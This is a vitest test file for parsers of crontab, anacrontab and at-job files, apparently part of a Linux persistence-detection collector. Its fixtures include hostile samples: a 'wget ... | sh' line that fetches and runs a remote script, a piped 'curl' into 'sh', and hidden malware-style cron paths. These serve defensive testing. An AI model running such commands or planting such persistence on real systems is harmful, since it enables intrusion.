import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseAnacrontab, parseAtJob, parseCrontab, splitPercent, SPECIALS, validField } from '../../../src/collectors/cron/parse-crontab.js';

const FIXTURE = new URL('../../fixtures/persistence-autostart/', import.meta.url);

describe('parseCrontab', () => {
  it('reads the real Debian /etc/crontab: env lines and four run-parts jobs, with their line numbers', () => {
    const rows = parseCrontab(readFileSync(new URL('clean/etc/crontab', FIXTURE), 'utf8'), 'system');
    expect(rows.filter((r) => r.kind === 'env').map((r) => [r.line, r.name, r.value])).toEqual([
      [7, 'SHELL', '/bin/sh'],
      [8, 'PATH', '/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin'],
    ]);
    const jobs = rows.filter((r) => r.kind === 'job');
    expect(jobs.map((j) => [j.line, j.schedule, j.user])).toEqual([
      [18, '17 * * * *', 'root'],
      [19, '25 6 * * *', 'root'],
      [20, '47 6 * * 7', 'root'],
      [21, '52 6 1 * *', 'root'],
    ]);
    expect(jobs[1].command).toBe('test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }');
    expect(rows.some((r) => r.kind === 'invalid')).toBe(false);
  });

  it('every schedule form: numbers, names, ranges, lists, steps, * and each @keyword', () => {
    const text = [
      '0 0 1 1 * root a',
      '*/5 * * * * root b',
      '1-10/2,30 0-6 */2 jan-mar mon-fri root c',
      '0 12 * DEC sun root d',
      ...SPECIALS.map((s) => `${s} root kw`),
      '@REBOOT root upper',
    ].join('\n');
    const rows = parseCrontab(text, 'system');
    expect(rows.every((r) => r.kind === 'job')).toBe(true);
    expect(rows.map((r) => r.schedule)).toEqual(['0 0 1 1 *', '*/5 * * * *', '1-10/2,30 0-6 */2 jan-mar mon-fri', '0 12 * DEC sun', ...SPECIALS, '@reboot']);
    expect(rows.filter((r) => r.special).map((r) => r.special)).toEqual([...SPECIALS, '@reboot']);
  });

  it('time fields out of range or malformed are rejected, as cron does', () => {
    expect(validField('59', 0)).toBe(true);
    expect(validField('0-59/15', 0)).toBe(true);
    expect(validField('7', 4)).toBe(true);
    expect(validField('Sun-Sat', 4)).toBe(true);
    for (const [f, i] of [['60', 0], ['24', 1], ['0', 2], ['13', 3], ['8', 4], ['*/0', 0], ['mon', 3], ['1-', 0], ['x', 0], ['1,,2', 0]] as const) expect(validField(f, i), `${f} at ${i}`).toBe(false);
  });

  it('spool format has no user field: the owner comes from the file name', () => {
    const rows = parseCrontab('* * * * * /tmp/.X25-unix/.rsync/c/a >/dev/null 2>&1\n@reboot ~/.configrc/b/sync\n', 'spool', 'alice');
    expect(rows.map((r) => [r.line, r.schedule, r.user, r.command])).toEqual([
      [1, '* * * * *', 'alice', '/tmp/.X25-unix/.rsync/c/a >/dev/null 2>&1'],
      [2, '@reboot', 'alice', '~/.configrc/b/sync'],
    ]);
    // The same line read as a system crontab takes the first word as the user.
    expect(parseCrontab('* * * * * /tmp/x arg\n', 'system')[0]).toMatchObject({ user: '/tmp/x', command: 'arg' });
  });

  it('env lines: spaces around =, quotes; a job with = in its command is still a job', () => {
    const rows = parseCrontab('MAILTO=""\nPATH = /usr/bin:/bin\n  SHELL="/bin/bash"\n* * * * * FOO=1 /usr/bin/x\n', 'spool', 'bob');
    expect(rows.map((r) => [r.kind, r.name ?? r.command, r.value ?? null])).toEqual([
      ['env', 'MAILTO', ''],
      ['env', 'PATH', '/usr/bin:/bin'],
      ['env', 'SHELL', '/bin/bash'],
      ['job', 'FOO=1 /usr/bin/x', null],
    ]);
  });

  it('comments, blank lines and CRLF are skipped; lines cron rejects are kept as invalid', () => {
    const rows = parseCrontab('# comment\n\n   # indented comment\r\n* * * * * root ok\r\n* * * root short\n@weird root x\n61x * * * * root bad\n* * * * * root\n', 'system');
    expect(rows.map((r) => [r.line, r.kind])).toEqual([
      [4, 'job'],
      [5, 'invalid'],
      [6, 'invalid'],
      [7, 'invalid'],
      [8, 'invalid'],
    ]);
    expect(rows[0].raw).toBe('* * * * * root ok');
  });

  it('% ends the command; the rest is stdin, \\% is a literal percent', () => {
    expect(splitPercent('date +\\%F > /tmp/d')).toEqual({ command: 'date +%F > /tmp/d', stdin: null });
    expect(splitPercent('mail -s hi root%line one%line two')).toEqual({ command: 'mail -s hi root', stdin: 'line one\nline two' });
    expect(parseCrontab('0 0 * * * cat | sh%curl -s http://x\n', 'spool', 'u')[0]).toMatchObject({ command: 'cat | sh', stdin: 'curl -s http://x' });
  });
});

describe('parseAnacrontab', () => {
  it('reads period, delay, id and command, and env lines', () => {
    const rows = parseAnacrontab('SHELL=/bin/sh\nHOME=/root\n# comment\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts --report /etc/cron.monthly\n7 x bad cmd\n');
    expect(rows.map((r) => [r.line, r.kind, r.schedule, r.command ?? r.name ?? null])).toEqual([
      [1, 'env', null, 'SHELL'],
      [2, 'env', null, 'HOME'],
      [4, 'job', '1 5 cron.daily', 'run-parts --report /etc/cron.daily'],
      [5, 'job', '@monthly 15 cron.monthly', 'run-parts --report /etc/cron.monthly'],
      [6, 'invalid', null, null],
    ]);
    expect(rows[3].special).toBe('@monthly');
  });
});

describe('parseAtJob', () => {
  it('reads the uid and the lines inside the here-document, with their line numbers', () => {
    const job = parseAtJob(readFileSync(new URL('infected/var/spool/cron/atjobs/a00001019e2f41', FIXTURE), 'utf8'));
    expect(job.uid).toBe(1000);
    expect(job.lines).toEqual([{ line: 12, text: 'wget -q -O- http://198.51.100.7/x | sh' }]);
  });

  it('an older job without a here-document: the lines after the cd block', () => {
    const job = parseAtJob('#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n echo x\n exit 1\n}\n/tmp/.x/run\n');
    expect(job).toEqual({ uid: 0, lines: [{ line: 8, text: '/tmp/.x/run' }] });
  });
});
